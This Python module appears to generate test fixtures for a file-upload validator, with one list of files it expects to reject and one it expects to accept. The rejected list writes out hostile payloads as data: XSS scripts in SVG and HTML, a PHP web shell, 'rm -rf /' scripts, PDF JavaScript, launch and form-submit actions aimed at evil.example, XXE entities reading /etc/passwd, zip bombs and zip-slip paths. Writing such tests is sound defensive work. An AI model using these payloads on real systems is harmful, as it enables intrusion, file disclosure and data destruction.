"""Files that somebody could send who means harm, or whose phone broke; made here, so that none of them is kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image, PngImagePlugin

SCRIPT = b"<script>alert(document.domain)</script>"
OPEN_XML = "application/vnd.openxmlformats-officedocument."
WORD = f"{OPEN_XML}wordprocessingml.document"
SHEET = f"{OPEN_XML}spreadsheetml.sheet"


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **how: object) -> bytes:
    content = io.BytesIO()
    Image.new(mode, size, 128 if mode in ("L", "I;16") else None).save(content, kind, **how)
    return content.getvalue()


def noise(width: int, height: int) -> bytes:
    """A picture that cannot be packed well, as photos cannot."""
    content = io.BytesIO()
    Image.effect_noise((width, height), 80).save(content, "JPEG", quality=95)
    return content.getvalue()


def photo_with_place() -> bytes:
    """A photo taken on its side, that says where and with what."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x013B] = 6, "SecretCamera", "Secret Owner"
    exif.get_ifd(0x8825).update({1: "S", 2: (6.0, 10.0, 30.0), 3: "E", 4: (106.0, 49.0, 0.0)})
    return picture(size=(64, 48), exif=exif)


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def flood(edge: int) -> bytes:
    """A PNG of one colour: many pixels in few bytes."""
    row = zlib.compressobj(9)
    data = b"".join(row.compress(b"\0" * (edge // 8 + 1)) for _ in range(edge)) + row.flush()
    head = struct.pack(">IIBBBBB", edge, edge, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def with_profile_bomb() -> bytes:
    plain = picture("PNG")
    bomb = b"icc\0\0" + zlib.compress(b"\0" * 80_000_000, 9)
    return plain[:33] + chunk(b"iCCP", bomb) + plain[33:]


def animated(kind: str, frames: int) -> bytes:
    content = io.BytesIO()
    pictures = [Image.new("RGB", (8, 8), (n % 256, n // 256, 0)) for n in range(frames)]
    pictures[0].save(content, kind, save_all=True, append_images=pictures[1:])
    return content.getvalue()


def pdf(inside: bytes = b"", trailer: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog "
        + inside
        + b" >> endobj\ntrailer << /Root 1 0 R "
        + trailer
        + (b" >>\nstartxref\n9\n%%EOF\n")
    )


def packed_pdf(inside: bytes) -> bytes:
    stream = zlib.compress(inside)
    about = b"2 0 obj << /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\r\n" % len(stream)
    return pdf().replace(b"trailer", about + stream + b"\nendstream endobj\ntrailer")


def archive(parts: dict[str, bytes], *, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", how) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return content.getvalue()


def office(media_type: str = WORD, more: dict[str, bytes] | None = None, said: str = "") -> bytes:
    contents = f'<Types><Override PartName="/main.xml" ContentType="{media_type}.main+xml"/>{said}</Types>'
    return archive({"[Content_Types].xml": contents.encode(), "word/document.xml": b"<w/>"} | (more or {}))


def open_document(kind: str = "text", more: dict[str, bytes] | None = None) -> bytes:
    media_type = f"application/vnd.oasis.opendocument.{kind}".encode()
    return archive({"mimetype": media_type, "content.xml": b"<office/>"} | (more or {}), how=zipfile.ZIP_STORED)


def many_entries(n: int) -> bytes:
    return office(more={f"word/{number}.bin": b"" for number in range(n)})


def twice_the_same_name() -> bytes:
    return office(more={"word/a.xml": b"<a/>", "word/b.xml": b"<b/>"}).replace(b"word/b.xml", b"word/a.xml")


def with_link() -> bytes:
    content = io.BytesIO(office())
    with zipfile.ZipFile(content, "a") as made:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return content.getvalue()


def locked_document() -> bytes:
    made = bytearray(office())
    at = made.rfind(b"PK\x01\x02")
    made[at + 8] |= 1
    return bytes(made)


def overlapping() -> bytes:
    """Two entries of the table of contents that are the same bytes of the archive."""
    made = bytearray(office(more={"word/a.bin": b"x" * 100, "word/b.bin": b"x" * 100}))
    first, second = made.find(b"PK\x01\x02", made.find(b"PK\x01\x02") + 1), made.rfind(b"PK\x01\x02")
    made[second + 42 : second + 46] = made[first + 42 : first + 46]
    return bytes(made)


def relation(kind: str) -> dict[str, bytes]:
    said = f'<R><Relationship Type="http://x/{kind}" Target="http://evil.example/x" TargetMode="External"/></R>'
    return {"word/_rels/settings.xml.rels": said.encode()}


ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" %s>%s</svg>'


def refused() -> Iterator[tuple[str, bytes]]:
    """A name, and what is in it: none of these is taken."""
    yield "script.svg", SVG % (b"", SCRIPT)
    yield "onload.svg", SVG % (b'onload="alert(1)"', b"")
    yield "foreign.svg", SVG % (b"", b"<foreignObject><body>" + SCRIPT + b"</body></foreignObject>")
    yield "image.svg", SVG % (b"", b'<image href="http://evil.example/x.png"/>')
    yield (
        "entity.svg",
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG % (b"", b"&x;"),
    )
    yield "drawing.png", SVG % (b"", SCRIPT)
    yield "drawing.svg.png", b"\xef\xbb\xbf  \n" + SVG % (b"", SCRIPT)
    yield "page.html", b"<!doctype html>" + SCRIPT
    yield "page.htm", b"<HTML>" + SCRIPT
    yield "page.html.png", b"<!doctype html>" + SCRIPT
    yield "page.txt", b"<!doctype html>" + SCRIPT
    yield "page", SCRIPT
    yield "late.txt", b"Dear all " * 3 + SCRIPT
    yield "wide.txt", ("\ufeff<html>" + SCRIPT.decode()).encode("utf-16-le")
    yield "page.xhtml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"
    yield "page.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT
    yield "page.mht.txt", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT
    yield "style.xml", b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl" type="text/xsl"?><a/>'
    yield "feed.rss", b"<rss/>"
    yield "a.js", b"alert(1)"
    yield "a.css", b"body{}"
    yield "a.php", b"<?php system($_GET[0]);"
    yield "a.php.jpg", b"<?php system($_GET[0]);"
    yield "a.sh", b"#!/bin/sh\nrm -rf /"
    yield "a.txt", b"#!/bin/sh\nrm -rf /"
    yield "a.exe", b"MZ" + bytes(200)
    yield "photo.jpg", b"MZ" + bytes(200)
    yield "a.elf", b"\x7fELF" + bytes(200)
    yield "eicar.com", EICAR
    yield "nothing.txt", b""
    yield "nothing.png", b""
    yield "zeros.jpg", bytes(1000)
    yield "control.txt", b"a\0b\x1b[2J"
    yield "latin.txt", "caf\xe9".encode("latin-1")
    yield "cut.jpg", picture(size=(600, 600))[:-400]
    yield "cut.png", picture("PNG", size=(300, 300))[:80]
    yield "head.png", picture("PNG")[:20]
    yield "head.jpg", picture()[:10]
    yield "head.webp", picture("WEBP")[:16]
    yield "head.gif", picture("GIF")[:9]
    yield "flood9000.png", flood(9000)
    yield "flood13000.png", flood(13000)
    yield "flood20000.png", flood(20000)
    yield "bomb.png", with_profile_bomb()
    yield "picture.bmp", picture("BMP")
    yield "picture.tiff", picture("TIFF")
    yield "picture.ico", picture("ICO")
    yield "photo.heic", b"\0\0\0\x18ftypheic" + bytes(100)
    yield "film.mp4", b"\0\0\0\x18ftypisom" + bytes(100)
    yield "picture.pdf", picture()
    yield "paper.jpg", pdf()
    yield "paper.html", pdf()
    yield "script.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    yield "hidden.pdf", pdf(b"/OpenAction << /S /#4aavaScript /#4AS (app.alert(1)) >>")
    yield "packed.pdf", packed_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    yield "launch.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")
    yield "sends.pdf", pdf(b"/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>")
    yield "locked.pdf", pdf(trailer=b"/Encrypt 5 0 R")
    yield "cut.pdf", pdf()[:60]
    yield "plain.zip", archive({"a.txt": b"a"})
    yield "plain.docx", archive({"a.txt": b"a"})
    yield "bomb.docx", office(more={"word/x.bin": bytes(200_000_000)})
    yield "declared.docx", office(more={"word/x.bin": bytes(300_000_000)})
    yield "nested.docx", office(more={"word/inner.zip": archive({"a": bytes(10_000)})})
    yield "many.docx", many_entries(2_500)
    yield "more.docx", many_entries(10_000)
    yield "overlapping.docx", overlapping()
    yield "slip.docx", office(more={"../../evil.xml": b"<x/>"})
    yield "absolute.docx", office(more={"/etc/evil.xml": b"<x/>"})
    yield "windows.docx", office(more={"C:/evil.xml": b"<x/>"})
    yield "doubled.docx", twice_the_same_name()
    yield "link.docx", with_link()
    yield "locked.docx", locked_document()
    yield "macro.docx", office(more={"word/vbaProject.bin": b"macro"})
    yield "macro.docm", office(said='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')
    yield "macro.xlsx", office(SHEET, {"xl/vbaProject.bin": b"macro"})
    yield "macro.odt", open_document(more={"Basic/Standard/Module1.xml": b"<x/>"})
    yield "active.docx", office(more={"word/activeX/activeX1.xml": b"<x/>"})
    yield "template.docx", office(more=relation("attachedTemplate"))
    yield "linked.docx", office(more=relation("oleObject"))
    yield "entities.docx", office(more={"word/styles.xml": ENTITIES})
    yield "outside.xlsx", office(SHEET, {"xl/sharedStrings.xml": OUTSIDE})
    yield "cut.docx", office()[:-30]
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield "docx.pdf", office()


def taken() -> Iterator[tuple[str, bytes, str, str]]:
    """A name, what is in it, what it is then called, and what type it is served as."""
    yield "photo.jpg", photo_with_place(), "photo.jpg", "image/jpeg"
    yield "image", picture(), "image.jpg", "image/jpeg"
    yield "wrong.png", picture(), "wrong.jpg", "image/jpeg"
    yield "page.html.png", picture("PNG"), "page.html.png", "image/png"
    yield "script.gif", picture("GIF") + SCRIPT, "script.png", "image/png"
    yield "page.jpg", picture() + b"<html>" + SCRIPT, "page.jpg", "image/jpeg"
    yield "zip.png", picture("PNG") + archive({"a.html": SCRIPT}), "zip.png", "image/png"
    yield "cmyk.jpg", picture(mode="CMYK"), "cmyk.jpg", "image/jpeg"
    yield "deep.png", picture("PNG", mode="I;16"), "deep.png", "image/png"
    yield "clear.png", picture("PNG", mode="RGBA"), "clear.png", "image/png"
    yield "moving.webp", animated("WEBP", 5), "moving.webp", "image/webp"
    yield "moving.png", animated("PNG", 300), "moving.png", "image/png"
    yield "moving.gif", animated("GIF", 20), "moving.png", "image/png"
    yield "paper.pdf", pdf(), "paper.pdf", "application/pdf"
    yield "page.pdf", pdf() + b"<html>" + SCRIPT + b"%%EOF", "page.pdf", "application/pdf"
    yield "zip.pdf", pdf() + archive({"a.html": SCRIPT}) + b"%%EOF", "zip.pdf", "application/pdf"
    yield "talk.mp3", b"ID3\x03\0\0\0\0\0\0" + bytes(500), "talk.mp3", "audio/mpeg"
    yield "raw.mp3", b"\xff\xfb\x90\x64" + bytes(500), "raw.mp3", "audio/mpeg"
    yield "talk.m4a", b"\0\0\0\x18ftypM4A " + bytes(500), "talk.m4a", "audio/mp4"
    yield "phone.m4a", b"\0\0\0\x18ftypisom" + bytes(500), "phone.m4a", "audio/mp4"
    yield "talk.aac", b"\xff\xf1\x50\x80" + bytes(500), "talk.aac", "audio/aac"
    yield "talk.ogg", b"OggS\0\x02" + bytes(500), "talk.ogg", "audio/ogg"
    yield "talk.wav", b"RIFF\x24\0\0\0WAVEfmt " + bytes(500), "talk.wav", "audio/wav"
    yield "report.docx", office(), "report.docx", WORD
    yield "table.xlsx", office(SHEET), "table.xlsx", SHEET
    yield "notes.odt", open_document(), "notes.odt", "application/vnd.oasis.opendocument.text"
    yield "eicar.txt", EICAR, "eicar.txt", "text/plain; charset=utf-8"
    yield "notes.txt", "Antrean – catatan saya".encode(), "notes.txt", "text/plain; charset=utf-8"


def with_text(text: str) -> bytes:
    """A picture with something written into it."""
    about = PngImagePlugin.PngInfo()
    about.add_text("Comment", text)
    return picture("PNG", pnginfo=about)
